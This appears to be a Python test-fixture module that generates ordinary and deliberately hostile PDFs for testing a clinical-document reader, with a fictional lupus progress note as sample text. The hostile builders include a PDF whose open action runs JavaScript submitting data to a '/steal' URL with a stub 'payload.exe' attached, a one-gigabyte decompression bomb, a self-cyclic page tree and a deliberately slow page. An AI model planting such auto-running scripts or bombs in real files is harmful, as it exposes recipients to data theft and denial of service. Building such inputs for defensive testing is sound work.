"""Good, odd and hostile PDFs, made at test time.

The good ones are set with fpdf2 as a clinic's software would. The hostile ones are written byte by byte or with pypdf,
because no honest library makes them.
"""

from __future__ import annotations

import io
import zlib
from collections.abc import Sequence
from pathlib import Path

from fpdf import FPDF
from PIL import Image, ImageDraw
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

LAB_HEADER = ("Test", "Result", "Units", "Reference range", "Flag")
LAB_ROWS = (
    ("Anti-dsDNA antibody", "186", "IU/mL", "< 30", "H"),
    ("Complement C3", "62", "mg/dL", "90-180", "L"),
    ("ANA titer", "1:640", "", "< 1:80", "H"),
    ("Platelets", "211", "10^9/L", "150-400", ""),
)

NOTE = """Harborview Rheumatology Clinic
12 Quay Street, Port Ellis, Tel (555) 010-2000
RHEUMATOLOGY PROGRESS NOTE
Patient: Jane Q. Doe   MRN: 00123456   DOB: 05/17/1985
Date of service: 03/14/2022
Provider: Alma Reyes, MD, FACR

INTERVAL HISTORY
She reports morning stiffness of 45 minutes and a new malar rash. Dr. Osei started
prednisone 20 mg. on 1 March. ANA was 1:640 vs. 1:80 in 2019. No fever.

LABORATORY DATA
Complement C3 62 mg/dL (90-180), low.

ASSESSMENT AND PLAN
1. Lupus flare, moderate. Continue hydroxychloroquine 200 mg twice daily.
2. Recheck C3, C4 and anti-dsDNA in four weeks.

Electronically signed by Alma Reyes, MD, FACR on 03/14/2022
"""


def text_pdf(*pages: str, size: float = 10.0, title: str = "") -> bytes:
    """A PDF with one page of plain lines for each text."""
    pdf = FPDF()
    pdf.set_auto_page_break(False)
    if title:
        pdf.set_title(title)
    for text in pages:
        pdf.add_page()
        pdf.set_font("Helvetica", "", size)
        for line in text.split("\n"):
            pdf.cell(0, size * 0.5, line, new_x="LMARGIN", new_y="NEXT")
    return bytes(pdf.output())


def table_pdf(
    rows: Sequence[Sequence[str]] = (LAB_HEADER, *LAB_ROWS), *, before: str = "Collected: 2022-03-15", by_column: bool = False,
    widths: Sequence[float] = (60, 25, 25, 40, 20), after: str = "Reported to the ordering clinician.",
) -> bytes:
    """A page with a ruled table. `by_column` draws the cells column by column, as some laboratory systems do."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", "", 10)
    pdf.cell(0, 6, before, new_x="LMARGIN", new_y="NEXT")
    top, left = pdf.get_y() + 4, pdf.l_margin
    places = [(row, column) for row in range(len(rows)) for column in range(len(rows[0]))]
    if by_column:
        places.sort(key=lambda place: (place[1], place[0]))
    for row, column in places:
        pdf.set_xy(left + sum(widths[:column]), top + 7 * row)
        pdf.cell(widths[column], 7, rows[row][column], border=1)
    pdf.set_xy(left, top + 7 * len(rows) + 6)
    pdf.cell(0, 6, after)
    return bytes(pdf.output())


def two_column_pdf(left: str, right: str) -> bytes:
    """A page of prose in two columns."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", "", 10)
    pdf.multi_cell(85, 5, left, align="L")
    pdf.set_xy(110, 10)
    pdf.multi_cell(85, 5, right, align="L")
    return bytes(pdf.output())


def wrapped_cells_pdf() -> bytes:
    """A table whose first column wraps."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", "", 10)
    with pdf.table(col_widths=(60, 20, 20, 40)) as table:
        for cells in (
            ("Test", "Result", "Units", "Reference range"),
            ("CRP", "12", "mg/L", "< 5"),
            ("Complement component C4 by nephelometry, second sample", "8", "mg/dL", "10-40"),
            ("ESR", "44", "mm/h", "< 20"),
        ):
            row = table.row()
            for cell in cells:
                row.cell(cell)
    return bytes(pdf.output())


def scanned_pdf(words: str = "C3 62 mg/dL", pages: int = 1) -> bytes:
    """Pages that are pictures of text, as a scanner makes them."""
    image = Image.new("RGB", (600, 300), "white")
    ImageDraw.Draw(image).text((40, 40), words, fill="black")
    pdf = FPDF()
    for _ in range(pages):
        pdf.add_page()
        pdf.image(image, x=10, y=10, w=180)
    return bytes(pdf.output())


def mixed_pdf() -> bytes:
    """A page of text, then a scanned page."""
    return joined(text_pdf(NOTE), scanned_pdf())


def joined(*documents: bytes) -> bytes:
    writer = PdfWriter()
    for document in documents:
        writer.append(PdfReader(io.BytesIO(document)))
    return _written(writer)


def encrypted_pdf(user_password: str, algorithm: str = "AES-256") -> bytes:
    """NOTE, encrypted. An empty user password opens for everybody."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(NOTE))))
    writer.encrypt(user_password, owner_password="owner-secret", algorithm=algorithm)
    return _written(writer)


def rotated_pdf() -> bytes:
    """NOTE on a page that is shown turned by 90 degrees."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(NOTE))))
    writer.pages[0].rotate(90)
    return _written(writer)


def scripted_pdf() -> bytes:
    """NOTE with JavaScript that runs on opening and a file attached."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(NOTE))))
    script = "app.alert('opened'); this.submitForm('http://127.0.0.1/steal');"
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )
    writer.add_attachment("payload.exe", b"MZ not a document")
    return _written(writer)


def many_pages_pdf(count: int) -> bytes:
    """`count` pages of one word each."""
    writer = PdfWriter()
    page = PdfReader(io.BytesIO(text_pdf("Page of a long record."))).pages[0]
    for _ in range(count):
        writer.add_page(page)
    return _written(writer)


def form_pdf() -> bytes:
    """A questionnaire whose answers are form fields, and a typed remark on the page."""
    content = b"BT /F1 12 Tf 72 720 Td (BASDAI questionnaire) Tj ET"
    return raw_pdf(
        content,
        page_extra="/Annots [6 0 R 7 0 R 8 0 R]",
        objects=(
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Fatigue) /V (7) /Rect [72 600 200 620] >>",
            "<< /Type /Annot /Subtype /FreeText /Contents (Completed by the patient.) /Rect [72 500 300 520] >>",
            "<< /Type /Annot /Subtype /Widget /FT /Btn /T (Smoker) /V /Off /Rect [72 560 80 568] >>",
        ),
    )


def slow_pdf(operations: int = 400_000) -> bytes:
    """A file of about 10 KB whose one page asks for `operations` text operations: legal, small and slow."""
    return raw_pdf(b"BT /F1 1 Tf " + b"(a) Tj " * operations + b"ET", compress=True)


def bomb_pdf(size: int = 1_000_000_000) -> bytes:
    """A page whose content unpacks to `size` bytes of spaces."""
    packer = zlib.compressobj(9)
    block = b" " * 1_000_000
    packed = b"".join(packer.compress(block) for _ in range(size // len(block))) + packer.flush()
    return raw_pdf(packed, packed=True)


def cyclic_pdf() -> bytes:
    """A page tree whose node is its own child."""
    return _assembled(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


def undecodable_pdf() -> bytes:
    """Text in a font that maps its glyphs to the private use area, so that nobody can tell what it says."""
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def /CMapType 2 def\n"
        b"1 begincodespacerange <00> <FF> endcodespacerange 1 beginbfrange <20> <7E> <E020> endbfrange\n"
        b"endcmap CMapName currentdict /CMap defineresource pop end end"
    )
    content = b"BT /F1 12 Tf 72 720 Td (Complement C3 62 mg/dL, anti-dsDNA 186 IU/mL) Tj ET"
    body = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap),
    ]
    return _assembled(body)


def raw_pdf(
    content: bytes, *, compress: bool = False, packed: bool = False, page_extra: str = "", objects: Sequence[str] = (),
    media_box: str = "[0 0 612 792]",
) -> bytes:
    """A one-page PDF around a content stream. `packed`: `content` is deflated already. Further objects start at 6."""
    data = zlib.compress(content, 9) if compress else content
    filtered = b"/Filter /FlateDecode " if compress or packed else b""
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox {media_box} /Contents 4 0 R "
    page += f"/Resources << /Font << /F1 5 0 R >> >> {page_extra} >>"
    body: list[str | bytes] = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        b"<< %s/Length %d >>\nstream\n" % (filtered, len(data)) + data + b"\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *objects,
    ]
    return _assembled(body)


def saved(folder: Path, content: bytes, name: str = "document.pdf") -> Path:
    """Write `content` to a file and return its path."""
    path = folder / name
    path.write_bytes(content)
    return path


def _assembled(body: Sequence[str | bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, part in enumerate(body, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (part.encode("latin-1") if isinstance(part, str) else part) + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, start)
    return bytes(out)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
